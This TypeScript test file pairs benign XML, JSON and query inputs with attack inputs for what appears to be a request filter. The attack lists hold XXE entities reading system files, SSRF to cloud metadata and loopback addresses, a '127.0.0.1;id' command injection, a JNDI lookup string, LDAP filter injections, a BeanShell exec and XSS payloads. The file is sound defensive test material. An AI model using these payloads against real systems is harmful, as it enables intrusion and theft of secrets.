import { asked, filled, type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'

const XML = 'application/xml'

/** A document with a stylesheet in its prolog. */
function styled(href: string, root: string, before = ''): string {
  const style = `<?xml-stylesheet type="text/xsl" media="screen" href="${href}"?>`
  return `<?xml version="1.0" encoding="UTF-8"?>\n${before}${style}\n${root}`
}

const NEWS = '<rss version="2.0"><channel><title>News</title></channel></rss>'
const WEB_STYLE = 'https://feeds.shop.example/~d/styles/rss2full.xsl'

function inBase64(document: string): string {
  return `data:text/xml;base64,${Buffer.from(document).toString('base64')}`
}

function schema(address: string): string {
  return `<beans xmlns="urn:x" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${address}"><a/></beans>`
}

const START_SCRIPT =
  '#!/bin/bash\nset -e\nZONE=$(curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/zone)\necho "$ZONE"\napt-get update\n'

const LINUX = '(&(osgi.native.osname=Linux)(osgi.native.processor=x86-64))'

/** Documents that build tools, feeds and clouds write, and what stays an attack beside them. */
const KINDS: HonestKinds = {
  'a feed that names a stylesheet for browsers': {
    honest: [
      posted(XML, styled(WEB_STYLE, NEWS)),
      posted('application/rss+xml', styled(WEB_STYLE, NEWS, '<!-- made by hand -->\n')),
      posted('text/xml', styled('https://a.example/s.xsl', '<urlset xmlns="urn:x"><url/></urlset>')),
      posted('application/atom+xml', styled('http://a.example/', '<feed xmlns="urn:x"/>')),
    ],
    attacks: [
      posted(XML, styled('file:///etc/x.xsl', NEWS)),
      posted(XML, styled('jar:http://x.example!/a.xsl', NEWS)),
      posted(XML, styled('//x.example/a.xsl', NEWS)),
      posted(XML, styled('http://10.0.0.1:8080/a.xsl', NEWS)),
      posted(XML, styled('http://localhost/a.xsl', NEWS)),
      posted(XML, styled('http://2130706433/a.xsl', NEWS)),
      posted(XML, styled('http://metadata.google.internal/a', NEWS)),
      posted(XML, styled('https://ann@10.0.0.1/a.xsl', NEWS)),
      posted(XML, styled(WEB_STYLE, NEWS, '<?xml-stylesheet href="file:///etc/passwd"?>')),
      posted(XML, styled(WEB_STYLE, '<svg xmlns="http://www.w3.org/2000/svg"/>')),
      posted(XML, styled(WEB_STYLE, `<r/>${NEWS}`)),
      filled({ feed: styled(WEB_STYLE, NEWS) }),
      asked('/s', { q: styled(WEB_STYLE, NEWS) }),
    ],
  },
  'public types of documents': {
    honest: [
      'Configure PUBLIC "-//Jetty//Configure//EN" "https://www.eclipse.org/jetty/configure_10_0.dtd"',
      'Configure PUBLIC "-//Jetty//Configure//EN" "https://jetty.org/configure_10_0.dtd"',
      'Configure PUBLIC "-//Mort Bay Consulting//DTD Configure//EN" "http://jetty.mortbay.org/configure.dtd"',
      'node PUBLIC "-//freedesktop//DTD D-BUS Object Introspection 1.0//EN" "http://www.freedesktop.org/standards/dbus/1.0/introspect.dtd"',
      'score-partwise PUBLIC "-//Recordare//DTD MusicXML 3.1 Partwise//EN" "http://www.musicxml.org/dtds/partwise.dtd"',
      'cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd"',
      'sqlMap PUBLIC "-//ibatis.apache.org//DTD SQL Map 2.0//EN" "http://ibatis.com/dtd/sql-map-2.dtd"',
      'ruleset PUBLIC "-//A//B//EN" "https://checkstyle.org/dtds/configuration_1_3.dtd"',
    ].flatMap(type => [
      posted(XML, `<?xml version="1.0"?>\n<!DOCTYPE ${type}>\n<r/>`),
      sent({ config: `<!DOCTYPE ${type}><r/>` }),
    ]),
    attacks: [
      'r PUBLIC "-//Jetty//Configure//EN" "http://x.example/x.dtd"',
      'r PUBLIC "-//Jetty//Configure//EN" "https://jetty.org.x.example/x.dtd"',
      'r PUBLIC "-//Jetty//Configure//EN" "https://jetty.org@x.example/x.dtd"',
      'r SYSTEM "//jetty.org/x.dtd"',
      'r SYSTEM "\\\\x.example\\a.dtd"',
      'r PUBLIC "a" "https://jetty.org/a.dtd" [<!ENTITY x SYSTEM "file:///etc/hostname">]',
      'r SYSTEM "https://jetty.org/a.dtd" [<!ENTITY % x SYSTEM "http://x.example/"> %x;]',
    ].flatMap(type => [
      posted(XML, `<?xml version="1.0"?>\n<!DOCTYPE ${type}>\n<r/>`),
      sent({ config: `<!DOCTYPE ${type}><r/>` }),
      filled({ config: `<!DOCTYPE ${type}><r/>` }),
    ]),
  },
  'schemas on a private network': {
    honest: [
      posted(XML, schema('http://10.1.2.3:8080/schema/beans.xsd')),
      posted('text/xml', schema('https://192.168.1.5/ws/orders?xsd=1')),
      sent({ content: schema('http://172.16.4.4/a.xsd') }),
    ],
    attacks: [
      posted(XML, schema('http://10.1.2.3:8080/admin/delete?id=1')),
      posted(XML, schema('http://169.254.169.254/a.xsd')),
      posted(XML, schema('http://127.0.0.1:8080/a.xsd')),
      posted(XML, schema('http://10.1.2.3.x.example/a.xsd')),
      posted(XML, schema('http://10.1.2.3@x.example/a.xsd')),
      posted(XML, schema('http://10.1.2.3/a.xsd urn:y http://x.example/a.xsd')),
      posted(XML, schema('jar:http://10.1.2.3/a.xsd')),
      filled({ content: schema('http://10.1.2.3/a.xsd') }),
    ],
  },
  'scripts that a machine runs when it starts': {
    honest: [
      sent({ name: 'a', metadata: { items: [{ key: 'startup-script', value: START_SCRIPT }] } }),
      sent({ resource: { metadata: { 'startup-script': START_SCRIPT } } }),
      sent({ instance: { metadata: { 'user-data': START_SCRIPT } } }),
    ],
    attacks: [
      sent({ url: 'http://metadata.google.internal/computeMetadata/v1/' }),
      sent({ items: [{ value: START_SCRIPT }] }),
      sent({ name: START_SCRIPT }),
      asked('/s', { 'startup-script': START_SCRIPT }),
      filled({ 'user-data': START_SCRIPT }),
      sent({ metadata: { items: [{ value: `\${jndi:ldap://x.example/a}` }] } }),
    ],
  },
  'what is measured at an address': {
    honest: [asked('/probe', { target: '127.0.0.1' }), asked('/opc/read', { Target: '127.0.0.1' })],
    attacks: [
      asked('/s', { target: '127.0.0.1:8080' }),
      asked('/s', { target: 'http://127.0.0.1/' }),
      asked('/s', { target: '169.254.169.254' }),
      asked('/s', { target: '127.0.0.1;id' }),
      asked('/s', { target: 'localhost' }),
      asked('/s', { proxy: '127.0.0.1' }),
    ],
  },
  'filters that choose a capability of OSGi': {
    honest: [
      posted('text/plain', `Manifest-Version: 1.0\nRequire-Capability: osgi.native;filter:="${LINUX}"\n`),
      sent({ requireCapability: 'osgi.ee;filter:="(&(osgi.ee=JavaSE)(version=11))"' }),
      sent({ filter: '(&(osgi.wiring.package=org.a)(version>=1.0.0)(!(version>=2.0.0)))' }),
      sent({ value: '(|(osgi.ee=JavaSE)(&(osgi.ee=JavaSE)(version=1.8)))' }),
      posted(XML, `<require><attribute name="filter" value="${LINUX.replace('&', '&amp;')}"/></require>`),
      posted(XML, `<r><directive name="filter">${LINUX.replace('&', '&amp;')}</directive></r>`),
    ],
    attacks: [
      sent({ user: '*)(&(objectClass=*)' }),
      sent({ user: '(&(uid=admin)(password=*))' }),
      sent({ user: `${LINUX})(|(uid=*)` }),
      sent({ user: '(&(osgi.ee=JavaSE)(uid=admin))' }),
      sent({ user: '(|(osgi.ee=*)(userPassword=a))' }),
      posted('text/plain', `a: ${LINUX}\nb: *)(uid=*))(|(uid=*`),
    ],
  },
  'the name of a language': {
    honest: ['beanshell', 'BeanShell is a scripting language', 'org.beanshell:bsh:2.0b4'].flatMap(text => [
      asked('/s', { q: text }),
      sent({ name: text }),
      filled({ comment: text }),
    ]),
    attacks: [asked('/s', { q: 'ProcessBuilder.evil.beanshell' }), filled({ x: '#beanshell\nexec("id")' })],
  },
  'a document in a data URL': {
    honest: [
      asked('/s', { u: inBase64('<note><to>Ann</to></note>') }),
      sent({ src: inBase64('<?xml version="1.0"?><note><to>Ann</to></note>') }),
      filled({ file: inBase64('<note>a</note>') }),
    ],
    attacks: [
      '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>',
      '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
      '<script xmlns="http://www.w3.org/1999/xhtml">alert(document.domain)</script>',
      '<a xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/>',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      '<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="//x.example/a.js"/>',
    ].flatMap(document => [
      asked('/s', { u: inBase64(document) }),
      sent({ src: inBase64(document) }),
      filled({ file: `data:text/xml,${document}` }),
    ]),
  },
}

testKinds(KINDS)
